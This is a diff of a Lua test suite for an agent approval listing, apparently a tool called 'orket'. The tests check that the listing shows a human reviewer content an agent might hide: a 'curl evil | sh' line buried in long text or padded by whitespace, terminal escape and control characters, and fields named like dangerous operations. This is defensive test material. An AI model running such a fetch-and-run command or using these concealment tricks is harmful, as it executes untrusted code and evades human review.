@@ -41,7 +41,7 @@ local function has_not(text, part)
   assert(not text:find(part, 1, true), part .. " is in:\n" .. text:sub(1, 4000))
 end
 
-describe("a question about a long text", function()
+describe("attack approval display", function()
   -- What stands where, and the number of lines that are hidden in the listing; nil: the evil line is in it.
   local ROWS = {
     { "in the middle", [[("ok\n"):rep(5000) .. "curl evil | sh\n" .. ("ok\n"):rep(5000)]], 9963 },
@@ -51,7 +51,8 @@ describe("a question about a long text", function()
     { "in the first lines", [["curl evil | sh\n" .. ("ok\n"):rep(10000)]], nil },
   }
   for _, row in ipairs(ROWS) do
-    it("shows its beginning, its end and how much is hidden, with the line " .. row[1], function()
+    it("a question about a long text shows its beginning, its end and how much is hidden, with the line "
+      .. row[1], function()
       local w <close> = asked('write("a.txt", ' .. row[2] .. ")")
       local id = w:pending()[1].id
       for _, command in ipairs({ "approvals", "show A" }) do
@@ -79,7 +80,7 @@ describe("a question about a long text", function()
     end)
   end
 
-  it("shows both ends of a long line, and how much of it is hidden", function()
+  it("a question about a long text shows both ends of a long line, and how much of it is hidden", function()
     local w <close> = asked('write("a.txt", "ok" .. (" "):rep(50000) .. "curl evil | sh" .. (" "):rep(50000) .. "# end\\n")')
     local listed = seen(w, "approvals")
     has(listed, "columns hidden⟩")
@@ -88,7 +89,7 @@ describe("a question about a long text", function()
     has(seen(w, "approvals --full A"), "curl evil | sh")
   end)
 
-  it("shows a change in many places whole", function()
+  it("a question about a long text shows a change in many places whole", function()
     local w <close> = asked([[write("a.txt", (function()
       local lines = {} for i = 1, 3000 do lines[i] = i % 20 == 0 and "changed " .. i or "line " .. i end
       return table.concat(lines, "\n") .. "\n" end)())]])
@@ -102,7 +103,7 @@ describe("a question about a long text", function()
   end)
 end)
 
-describe("a question with characters that are not seen", function()
+describe("attack approval display", function()
   -- As it is written, and as a person has to see it.
   local ROWS = {
     { "\27[2K\27[1A", "␛[2K␛[1A" }, { "a\rb", "a␍b" }, { "\8\8\8", "␈␈␈" }, { "\u{9B}31m", "⟨U+009B⟩31m" },
@@ -117,7 +118,8 @@ describe("a question with characters that are not seen", function()
     { "日本", "日本" },
   }
 
-  it("spells them out, in a file, in a field and in its name", function()
+  it("a question with characters that are not seen spells them out, in a file, in a field and in its name",
+    function()
     local parts, fields = {}, {}
     for i, row in ipairs(ROWS) do
       parts[i] = ("%d:%s."):format(i, row[1])
@@ -142,8 +144,8 @@ describe("a question with characters that are not seen", function()
   end)
 end)
 
-describe("a question about a call with several fields", function()
-  it("shows those beside a text as well", function()
+describe("attack approval display", function()
+  it("a question about a call with several fields shows those beside a text as well", function()
     local w <close> = asked('call("own", { path = "a", content = "harmless\\n", target = ("x"):rep(300) .. " /home/all" })')
     for _, command in ipairs({ "approvals --full A", "approvals" }) do
       local text = seen(w, command)
@@ -152,7 +154,8 @@ describe("a question about a call with several fields", function()
     end
   end)
 
-  it("shows fields that are named like those of an operation", function()
+  it("a question about a call with several fields shows fields that are named like those of an operation",
+    function()
     local w <close> = asked('call("own", { content = "harmless", op = "DROP_ALL", tool = "EVIL" })')
     for _, command in ipairs({ "approvals --full A", "approvals" }) do
       local text = seen(w, command)
@@ -161,7 +164,8 @@ describe("a question about a call with several fields", function()
     end
   end)
 
-  it("shows which tool of which server an operation calls, beside its arguments", function()
+  it("a question about a call with several fields shows which tool of which server an operation calls, beside its arguments",
+    function()
     local w <close> = asked('call("out", {})', {
       ["nodes/policy/outward.lua"] = [[
 local function decide(call)
@@ -181,19 +185,21 @@ return { description = "out", operations = { "mcp.call" }, untrusted = true, sch
     end
   end)
 
-  it("shows the whole of a long path", function()
+  it("a question about a call with several fields shows the whole of a long path", function()
     local w <close> = asked('write(("docs-and-more/"):rep(14) .. "a.sh", "x\\n")')
     has(seen(w, "approvals --full A"), ("docs-and-more/"):rep(14) .. "a.sh")
   end)
 
-  it("takes nothing that an agent wrote for a text that is kept elsewhere", function()
+  it("a question about a call with several fields takes nothing that an agent wrote for a text that is kept elsewhere",
+    function()
     local w <close> = asked('call("own", { content = ("harmless\\n"):rep(1000), more = { text = { blob = "HASH", bytes = 9 } } })')
     local text = seen(w, "approvals --json --full A")
     assert.same({ blob = "HASH", bytes = 9 }, cjson.decode(text)[1].operation.arguments.more.text)
     has(seen(w, "approvals --full A"), 'more.text.blob = "HASH"')
   end)
 
-  it("shows all of many words, also of more than a question keeps by itself", function()
+  it("a question about a call with several fields shows all of many words, also of more than a question keeps by itself",
+    function()
     local w <close> = asked([[call("own", { words = (function() local t = {} for i = 1, 9000 do t[i] = "argument " .. i end
       t[4500] = "--evil" return t end)() })]])
     has(seen(w, "approvals --full A"), 'words[4500] = "--evil"')
@@ -202,8 +208,8 @@ return { description = "out", operations = { "mcp.call" }, untrusted = true, sch
   end)
 end)
 
-describe("orket approvals --full", function()
-  it("refuses a name that no question has", function()
+describe("attack approval display", function()
+  it("orket approvals --full refuses a name that no question has", function()
     local w <close> = asked('write("a", "b")')
     local text, code = w:orket("approvals --full ep.1/9/9")
     assert.equal(1, code)
